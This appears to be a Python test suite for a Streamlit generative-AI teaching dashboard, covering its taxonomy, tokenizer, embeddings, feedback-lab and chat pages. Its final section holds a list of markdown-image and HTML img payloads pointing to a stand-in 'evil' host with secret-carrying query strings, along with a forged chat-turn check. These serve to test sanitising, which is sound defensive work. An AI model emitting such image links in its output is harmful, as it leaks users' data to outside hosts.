"""Dashboard pages render without exceptions and react to their controls (Streamlit AppTest), and
the library code behind them (dashboard/lib) is right."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import tomllib
from pathlib import Path

import numpy as np
import pytest
from sklearn.discriminant_analysis import QuadraticDiscriminantAnalysis
from streamlit.testing.v1 import AppTest

from core.lm.loader import resolve_model_path
from core.lm.tokenizer import load_tokenizer
from dashboard.lib import embeddings, taxonomy, tokens

ROOT = Path(__file__).resolve().parent.parent
PAGES = ROOT / "dashboard" / "views"


def page(name: str) -> AppTest:
    at = AppTest.from_file(str(PAGES / f"{name}.py"), default_timeout=120)
    return at.run()


def charts(at: AppTest) -> list[dict]:
    return [json.loads(chart.proto.spec) for chart in at.get("plotly_chart")]


def metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


def by_label(elements, label: str):
    return next(e for e in elements if e.label == label)


# -- home ---------------------------------------------------------------------------------------


def test_app_entry_point_renders_home_with_links_to_the_built_pages():
    at = AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=120).run()
    assert not at.exception
    assert at.title[0].value == "genai-lab"
    links = {link.proto.page for link in at.get("page_link")}
    assert {"taxonomy", "tokens", "embeddings"} <= links  # the pages' URL paths
    built = {p.stem for p in PAGES.glob("*.py")}
    assert links <= built  # a page that is not built yet is plain text, not a dead link


def test_home_generates_and_reacts_to_the_prompt():
    at = page("home")
    assert not at.exception
    first = at.markdown[-1].value
    assert first.startswith("**The cat sat on the**")
    assert len(first) > len("**The cat sat on the**") + 5  # the model added text
    at.text_input[0].set_value("Once upon a time").run()
    assert not at.exception
    assert at.markdown[-1].value.startswith("**Once upon a time**")


def test_home_lists_what_runs_locally_with_measured_sizes():
    at = page("home")
    table = at.table[0].value
    sizes = dict(zip(table["model"], table["parameters"], strict=True))
    report = json.loads((resolve_model_path("tutor-base") / "training_report.json").read_text())
    assert sizes["tutor-base"] == f"{report['parameters']:,}"
    assert sizes["all-MiniLM-L6-v2"] == "22,713,216"


@pytest.mark.parametrize("text", ["", "The cat " * 200])
def test_home_handles_empty_and_too_long_text(text):
    at = page("home")
    at.text_input[0].set_value(text).run()
    assert not at.exception
    messages = [m.value for m in (*at.info, *at.warning)]
    assert messages, "the page must say what is wrong"


# -- taxonomy -----------------------------------------------------------------------------------


def test_taxonomy_renders_and_every_control_changes_the_output():
    at = page("taxonomy")
    assert not at.exception
    nesting, comparison, _ = charts(at)
    assert nesting["data"][0]["type"] == "treemap"
    at.radio[0].set_value("sunburst").run()
    assert charts(at)[0]["data"][0]["type"] == "sunburst"

    by_label(at.selectbox, "Look closer at").set_value("Machine learning").run()
    assert any(m.value.startswith("**Machine learning.**") for m in at.markdown)

    by_label(at.slider, "New points to generate").set_value(150).run()
    after = charts(at)[1]
    assert after != comparison
    assert "150 new points" in json.dumps(after["layout"]["annotations"])

    at.multiselect[0].set_value([]).run()
    assert not at.exception
    assert at.info and len(charts(at)) == 2  # no timeline, and the page says why


def test_taxonomy_shows_that_a_straight_border_fails_on_circles():
    at = page("taxonomy")
    by_label(at.selectbox, "Toy data").set_value("circles").run()
    linear = metrics(at)
    by_label(at.selectbox, "Discriminative model").set_value("support vector machine (RBF)").run()
    curved = metrics(at)
    assert not at.exception
    accuracy = "Classifier accuracy (held-out 30%)"
    assert float(linear[accuracy].rstrip("%")) < 70 < 90 < float(curved[accuracy].rstrip("%"))
    assert float(curved["Generative model as a classifier"].rstrip("%")) > 90


def test_class_conditional_gmm_agrees_with_qda_when_it_has_one_gaussian():
    X, y = taxonomy.toy_data("blobs", n=2000, noise=0.3, seed=1)
    ours = taxonomy.ClassConditionalGMM(n_components=1).fit(X, y)
    qda = QuadraticDiscriminantAnalysis().fit(X, y)  # one Gaussian per class, by Bayes' rule
    grid = np.random.default_rng(0).uniform(-3, 3, size=(500, 2))
    np.testing.assert_allclose(ours.predict_proba(grid), qda.predict_proba(grid), atol=0.02)
    assert (ours.predict(grid) == qda.predict(grid)).mean() > 0.99


def test_class_conditional_gmm_samples_follow_the_learnt_distribution():
    X, y = taxonomy.toy_data("two moons", n=600, noise=0.1, seed=0)
    model = taxonomy.ClassConditionalGMM(n_components=4).fit(X, y)
    samples, labels = model.sample(4000, seed=3)
    assert samples.shape == (4000, 2) and set(labels) == {0, 1}
    assert abs((labels == 1).mean() - (y == 1).mean()) < 0.03  # class priors
    for c in (0, 1):  # each class's samples have that class's mean
        np.testing.assert_allclose(samples[labels == c].mean(0), X[y == c].mean(0), atol=0.08)
    # the generative model labels its own samples correctly most of the time
    assert (model.predict(samples) == labels).mean() > 0.9
    assert model.sample(0)[0].shape == (0, 2)


def test_taxonomy_facts():
    years = {e["event"]: e["year"] for e in taxonomy.TIMELINE}
    assert years["Perceptron"] == 1958
    assert years["Backpropagation popularised"] == 1986
    assert years["Variational autoencoder (VAE)"] == 2013
    assert years["GAN"] == 2014
    assert years["Transformer"] == 2017
    assert years["GPT-1"] == years["BERT"] == 2018
    assert years["GPT-3"] == 2020
    assert years["LoRA"] == 2021
    assert years["InstructGPT (RLHF)"] == years["ChatGPT"] == 2022
    assert years["QLoRA"] == 2023
    modalities = {row["modality"]: row["examples"] for row in taxonomy.MODALITIES}
    assert "DALL·E 3" in modalities["text → image"] and "DALL·E" not in modalities["image → text"]
    assert "Whisper" in modalities["speech → text"]
    with pytest.raises(ValueError, match="unknown dataset"):
        taxonomy.toy_data("spirals")


# -- tokens -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bpe():
    return load_tokenizer(resolve_model_path("tutor-base"))


@pytest.fixture(scope="module")
def wordpiece():
    from transformers import AutoTokenizer

    from chat.embeddings import minilm_path

    return AutoTokenizer.from_pretrained(str(minilm_path()), local_files_only=True)


def test_tokens_page_reacts_to_text():
    at = page("tokens")
    assert not at.exception
    # tutor, SmolLM2 and WordPiece views, the chat template, and a forged turn as the tutor reads it
    assert len(at.html) == 5
    forged = at.html[4].value  # the typed <|end|> / <|assistant|> stay text inside the user's turn
    assert forged.count("&lt;|assistant|&gt;") + forged.count("<|assistant|>") >= 1
    before = metrics(at)
    at.text_area[0].set_value("The cat. THE CAT.").run()
    assert not at.exception
    assert metrics(at) != before
    assert ">CAT<" not in at.html[2].value and ">cat<" in at.html[2].value  # lowercased
    assert ">·cat<" in at.html[0].value  # BPE keeps the space, shown as ·


def test_tokens_page_handles_other_scripts_and_emoji():
    at = page("tokens")
    at.selectbox[0].set_value("Other scripts and emoji").run()
    assert not at.exception
    notes = " ".join(m.value for m in at.markdown)
    assert "[UNK]" in notes and "bytes" in notes
    assert "→[UNK]" in at.html[2].value and "⟨" in at.html[0].value


def test_tokens_page_empty_and_too_long_text():
    at = page("tokens")
    at.text_area[0].set_value("").run()
    assert not at.exception and at.info
    at.text_area[0].set_value("word " * 1000).run()
    assert not at.exception
    assert any(f"{tokens.MAX_CHARS:,}" in w.value for w in at.warning)


@pytest.mark.parametrize(
    "text",
    ["The cat sat.", "  two  spaces\n\tand a tab", "naïve café 東京 🙂👍🏽 مرحبا", "<b>&amp;"],
)
def test_bpe_segments_cover_the_text_byte_for_byte(bpe, text):
    segments = tokens.bpe_segments(bpe, text)
    assert b"".join(tokens.bpe_token_bytes(s.token) for s in segments) == text.encode("utf-8")
    assert [s.token_id for s in segments] == bpe.encode(text, add_special_tokens=False)
    assert tokens.summarize(text, segments).dropped == ""  # byte-level BPE drops nothing
    html = tokens.segments_html(text, segments)
    assert "<b>" not in html  # the text is escaped
    for s in segments:  # hover titles carry ids
        assert f"id {s.token_id} " in html


def test_bpe_shows_split_characters_as_bytes(bpe):
    segments = tokens.bpe_segments(bpe, "🙂")
    assert [s.label for s in segments] == ["⟨f0⟩", "⟨9f⟩", "⟨99⟩", "⟨82⟩"]
    assert all(s.kind == "bytes" for s in segments)
    assert tokens.readable_bytes("é".encode()) == ("é", False)


def test_wordpiece_segments_show_unknowns_lowercase_and_dropped_space(wordpiece):
    text = "Hello  🙂\ntokenization"
    segments = tokens.wordpiece_segments(wordpiece, text)
    assert [s.label for s in segments] == ["hello", "🙂", "token", "##ization"]
    assert [s.kind for s in segments] == ["text", "unknown", "text", "text"]
    summary = tokens.summarize(text, segments)
    assert summary.unknown == 1 and summary.dropped == "  \n"
    html = tokens.segments_html(text, segments)
    assert "🙂→[UNK]" in html and "line-through" in html and "<br>" in html


def test_text_helpers():
    assert tokens.show_whitespace("a b\n\tc") == "a·b↵→c"
    assert tokens.cap_text("abc", 2) == ("ab", True) and tokens.cap_text("abc", 3) == ("abc", False)
    assert tokens.human_count(175e9) == "175B"
    assert tokens.human_count(1.4e12) == "1.4T"
    assert tokens.human_count(1_877_184) == "1.88M"


def test_scale_table_has_the_published_figures_and_our_measured_ones():
    report = json.loads((resolve_model_path("tutor-base") / "training_report.json").read_text())
    rows = {r["model"]: r for r in tokens.scale_rows(report, 128)}
    assert rows["GPT-3"]["parameters"] == "175B" and rows["GPT-3"]["training tokens"] == "300B"
    assert rows["Chinchilla"]["tokens per parameter"] == "20.0"
    assert rows["Llama 2 70B"]["training tokens"] == "2T"
    tutor = rows["tutor-base (this project, measured)"]
    assert tutor["parameters"] == tokens.human_count(report["parameters"])
    assert tutor["training tokens"] == tokens.human_count(report["tokens_seen"])


# -- embeddings ---------------------------------------------------------------------------------


def test_embeddings_page_projects_and_reacts_to_the_method():
    at = page("embeddings")
    assert not at.exception
    seed_pair, paraphrase = (float(m.value) for m in at.metric[:2])
    assert seed_pair < 0.3 < 0.6 < paraphrase
    projection = charts(at)[0]
    assert len(projection["data"]) == len(embeddings.PRESETS)  # one trace per topic
    for method, control in (("t-SNE", "Perplexity"), ("UMAP", "Neighbours")):
        at.radio[0].set_value(method).run()
        assert not at.exception
        assert any(s.label.startswith(control) for s in at.slider)
        assert charts(at)[0] != projection
    at.radio[1].set_value("3-D").run()
    assert not at.exception
    assert charts(at)[0]["data"][0]["type"] == "scatter3d"


def test_embeddings_page_single_sentence_and_no_sentence():
    at = page("embeddings")
    at.multiselect[0].set_value([]).run()
    assert not at.exception
    assert any("Pick some preset sentences" in m.value for m in at.info)
    at.text_area[0].set_value("Only one sentence here.").run()
    assert not at.exception
    assert any("needs at least 3 sentences; you have 1" in m.value for m in at.info)


def test_embeddings_page_search_and_arithmetic_react():
    at = page("embeddings")
    at.text_input[0].set_value("I love my cat").run()
    top = at.dataframe[1].value.iloc[0]["sentence"]  # [0]: the picked sentence's neighbours
    assert top in embeddings.PRESETS["pets"]
    arithmetic = [m.value for m in at.markdown if "candidate" in m.value]
    assert "**queen**" in arithmetic[-1]
    at.selectbox[1].set_value("Paris − France + Germany").run()
    assert not at.exception
    assert at.dataframe[2].value.iloc[0]["word"] == "Berlin"


def test_embeddings_page_caps_the_visitors_sentences():
    at = page("embeddings")
    at.text_area[0].set_value("\n".join(f"Sentence number {i}." for i in range(60))).run()
    assert not at.exception
    assert any("first 40 of your 60 lines" in w.value for w in at.warning)


def test_parse_sentences_reports_every_change():
    text = "a\n\n  a \n" + "x" * 400 + "\nb\nc"
    parsed = embeddings.parse_sentences(text, already=["a"], max_sentences=3, max_chars=300)
    assert parsed.sentences == ["x" * 300]  # "a" is already shown, "b" and "c" are past the cap
    assert len(parsed.notes) == 3  # lines left out, a line cut, repeats shown once
    assert embeddings.SEED_PAIR[0] in embeddings.PRESETS["weather"]
    with pytest.raises(ValueError, match="unknown topic"):
        embeddings.preset_sentences(["sports"])


# -- training stages and the human-feedback lab -------------------------------------------------


def stages_page(monkeypatch, db: Path) -> AppTest:
    monkeypatch.setenv("GENAI_LAB_FEEDBACK_DB", str(db))  # never the user's runs/feedback.db
    return page("training_stages")


def test_training_stages_page_says_a_too_long_question_is_too_long(tmp_path, monkeypatch):
    """A 600-character question used to replace the page with PromptTooLongError's traceback."""
    at = stages_page(monkeypatch, tmp_path / "feedback.db")
    assert not at.exception
    by_label(at.text_input, "Ask the tutor").set_value("why " * 150).run()
    assert not at.exception
    (error,) = [e.value for e in at.error]
    assert "too long for the tutor" in error and "context is 128 tokens" in error
    assert "\n" not in error and "Traceback" not in error
    assert at.subheader[-1].value == "Human-feedback lab"  # the rest of the page still renders
    by_label(at.text_input, "Question for ranking").set_value("x" * 600).run()
    by_label(at.button, "Sample answers").click().run()
    assert not at.exception
    assert [e.value for e in at.error][-1].startswith("The question is too long for the tutor")
    assert "lab" not in at.session_state  # nothing to rank


def test_feedback_lab_survives_a_poisoned_store_and_a_file_that_is_not_sqlite(
    tmp_path, monkeypatch
):
    from core.train.stages.feedback import SCHEMA

    db = tmp_path / "old.db"  # what an older version let in: a float ranking next to a good row
    raw = sqlite3.connect(db)
    raw.execute(SCHEMA)
    raw.executemany(
        "INSERT INTO comparisons (prompt, responses, ranking, created_at) VALUES (?, ?, ?, 'then')",
        [("good", '["a", "b"]', "[1, 0]"), ("poison", '["a", "b"]', "[1.0, 0.0]")],
    )
    raw.commit()
    raw.close()
    at = stages_page(monkeypatch, db)
    assert not at.exception
    (warning,) = [w.value for w in at.warning]
    assert warning.startswith(f"{db}: left out 1 malformed comparison(s) (ids 2;")
    assert any(c.value.startswith(f"1 preference pairs in {db}") for c in at.caption)

    not_sqlite = tmp_path / "notes.db"
    not_sqlite.write_text("my notes, not a database\n" * 50)
    at = stages_page(monkeypatch, not_sqlite)
    assert not at.exception
    assert [e.value for e in at.error] == [
        f"{not_sqlite}: this file is not an SQLite database; move it away or use another path"
    ]


def test_streamlit_config_hides_tracebacks_and_keeps_xsrf_protection():
    """Uncaught errors must not show tracebacks (server paths) in the browser. Streamlit's own
    parser, in a fresh process started in the project root as `streamlit run` is, must read
    these values from our file (a misspelt key would be ignored with only a log line)."""
    raw = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert raw["client"]["showErrorDetails"] == "none"
    assert raw["server"]["enableXsrfProtection"] is True
    assert raw["server"]["address"] == "localhost"
    script = (
        "import json, sys, tomllib\n"
        "from streamlit import config\n"
        "opts = config.get_config_options()\n"
        "raw = tomllib.load(open('.streamlit/config.toml', 'rb'))\n"
        "keys = [f'{s}.{k}' for s, table in raw.items() for k in table]\n"
        "json.dump({'unknown': [k for k in keys if k not in opts],\n"
        "           'read': {k: [opts[k].value, opts[k].where_defined] for k in keys if k in opts},\n"
        "           'valid': [o.value for o in config.ShowErrorDetailsConfigOptions]}, sys.stdout)\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("STREAMLIT_")}
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    parsed = json.loads(done.stdout)
    assert parsed["unknown"] == []
    ours = str(ROOT / ".streamlit" / "config.toml")
    assert parsed["read"]["client.showErrorDetails"] == ["none", ours]
    assert parsed["read"]["server.enableXsrfProtection"] == [True, ours]
    assert parsed["read"]["server.address"] == ["localhost", ours]
    assert "none" in parsed["valid"]


def test_lab_saves_a_ranking_once_and_names_what_is_wrong(tmp_path):
    from dashboard.lib.training_stages import save_ranking, stored_pairs

    db = tmp_path / "feedback.db"
    answers = ["A token is a piece of text.", "A coin."]
    assert save_ranking(db, "What is a token?", answers, [0, 1]) == (
        "success",
        "Saved. The store now holds 1 comparisons.",
    )
    assert save_ranking(db, "What is a token?", answers, [0, 1]) == (
        "info",
        "Already saved as comparison 1; nothing added.",
    )
    assert save_ranking(db, "What is a token?", answers, [1.0, 0.0]) == (
        "error",
        "ranking[0]: expected an int response index, got 1.0",
    )
    pairs, notes = stored_pairs(db)
    assert [(p["chosen"], p["rejected"]) for p in pairs] == [tuple(answers)] and notes == []


# -- chat page markdown -------------------------------------------------------------------------

LEAKS = [  # every way we know for chat text to make the browser fetch a URL
    "![x](https://evil/?q=secret)",
    'see ![x](https://evil/?q=secret "title") here',
    "![a][1]\n\n[1]: http://evil/?q=secret",
    "![a][]\n\n[a]: http://evil/",
    "![a]\n\n[a]: http://evil/",
    "![\nx](http://evil/)",
    "![x](\nhttp://evil/)",
    "[![inner](http://evil/i.png)](http://ok/)",
    "*![x](http://evil/)*",
    "\\\\![x](http://evil/)",  # an escaped backslash, then an image
    "\\![x](http://evil/) ![y](http://evil/)",
    '<img src="http://evil/?q=secret">',
    "text <img src='http://evil/'> text",
    "<div>\n<img src=x>\n</div>",
    "<!-- c --><img src=x>",
    "</x><IMG SRC=x>",
    "`code` ![x](http://evil/) `more`",
    "`unclosed ![x](http://evil/)",
    "`a\n\n![x](http://evil/)`",  # no code span across paragraphs
    "| a | b |\n|---|---|\n| `x | ![i](http://evil/) ` |",  # cells split before code spans
    "- item\n  ```\n  code\n- next ![y](http://evil/)",  # the list item ends the fence
    "```\n![x](http://evil/)\n```\n![y](http://evil/)",
    "````\n```\n![x](http://evil/)\n````\n![y](http://evil/)",
    "```a`b\n![x](http://evil/)\n```",  # not a fence: backticks in the info string
    "$x$ ![x](http://evil/) $y$",
    "line\r![x](http://evil/)\r\n<img src=x>",
]
TRICKY = [  # no image, or one inside code: none after either
    "<http://evil/?q=secret> and <me@evil.com>",  # autolinks: links, shown as typed
    "``a`b ![x](http://evil/)`",
    "> ```\n> ![x](http://evil/)\n> ```",
]
NORMAL = [  # renders exactly as before
    "**bold**, *italic* and ~~gone~~",
    "- one\n- two\n  1. nested",
    "A [link](https://arxiv.org/abs/2106.09685) and a < b > c",
    "Use `<|endoftext|>` to end; wow! [x](y)",
    "```python\nif a < b:\n    print('<|im_start|>')\n```",
    "| token | id |\n|---|---|\n| the | 464 |",
    "> quoted\n\n# Heading\n\nCosts $5 and $6.",
]


def markdown_tokens(text: str) -> list:
    """All tokens of `text`, in order, as a CommonMark + GFM-tables parser (like the browser's)
    reads it."""
    from markdown_it import MarkdownIt

    def walk(tokens: list) -> list:
        return [t for token in tokens for t in [token, *walk(token.children or [])]]

    return walk(MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text))


def render(text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


@pytest.mark.parametrize("text", LEAKS + TRICKY)
def test_chat_markdown_shows_images_and_html_as_text(text):
    from dashboard.lib.chat import safe_markdown

    if text in LEAKS:  # (the test cases are real: each one loads something unless made safe)
        assert {t.type for t in markdown_tokens(text)} & {"image", "html_inline", "html_block"}
    safe = safe_markdown(text)
    kinds = {t.type for t in markdown_tokens(safe)}
    assert not kinds & {"image", "html_inline", "html_block"}, safe
    assert "<img" not in render(safe)
    if "`" not in text and "$" not in text:  # what was typed is what is shown
        shown = "".join(t.content for t in markdown_tokens(safe) if t.type == "text")
        assert "![" in shown or "<" in shown


def test_chat_markdown_keeps_everything_else_and_code_reads_the_same():
    from dashboard.lib.chat import WORD_JOINER, safe_markdown

    for text in NORMAL:
        assert render(safe_markdown(text)) == render(text), text
    code = "Try `<img src=x>`:\n\n```html\n<div>![a](b)</div>\n```"
    safe = safe_markdown(code)
    assert "<img" not in render(safe).replace("&lt;", "<").replace(WORD_JOINER, "X")
    assert render(safe).replace(WORD_JOINER, "") == render(code)  # the joiner does not show


def test_chat_markdown_never_has_an_image_or_html_in_random_text():
    import random

    from dashboard.lib.chat import safe_markdown

    parts = ["![", "]", "(", ")", "http://e/", "`", "```", "\n", "<", "img ", ">", "\\", "[1]",
             "]: ", "$", "|", "- ", "> ", " ", "x", "~~~", "*", "<!--", "</", "\r"]  # fmt: skip
    rng = random.Random(0)
    for _ in range(3000):
        text = "".join(rng.choices(parts, k=rng.randint(1, 30)))
        kinds = {t.type for t in markdown_tokens(safe_markdown(text))}
        assert not kinds & {"image", "html_inline", "html_block"}, repr(text)


@pytest.mark.slow  # loads the default chat model and MiniLM: 12-25 s
def test_chat_page_shows_images_in_the_conversation_as_text(tmp_path, monkeypatch):
    from langchain_core.messages import AIMessage, HumanMessage

    from chat.conversations import ChatStore, thread_config

    db = tmp_path / "chat.sqlite"
    monkeypatch.setenv("GENAI_LAB_CHAT_DB", str(db))
    asked, answered = "see ![x](https://evil/?q=secret)", "**ok** <img src='https://evil/'>"
    store = ChatStore(db)  # a saved turn whose question and answer both carry an image
    turn = {"messages": [HumanMessage(asked), AIMessage(answered)]}
    store.graph.update_state(thread_config("dashboard"), turn, as_node="respond")
    store.close()
    at = page("chat")
    assert not at.exception
    user, assistant = at.chat_message
    for message, typed in ((user, asked), (assistant, answered)):
        (body,) = [m.value for m in message.markdown]
        tokens = markdown_tokens(body)
        assert not {t.type for t in tokens} & {"image", "html_inline", "html_block"}
        shown = "".join(t.content for t in tokens if t.type in ("text", "softbreak"))
        assert typed.replace("**", "") in shown  # what was typed, shown as typed
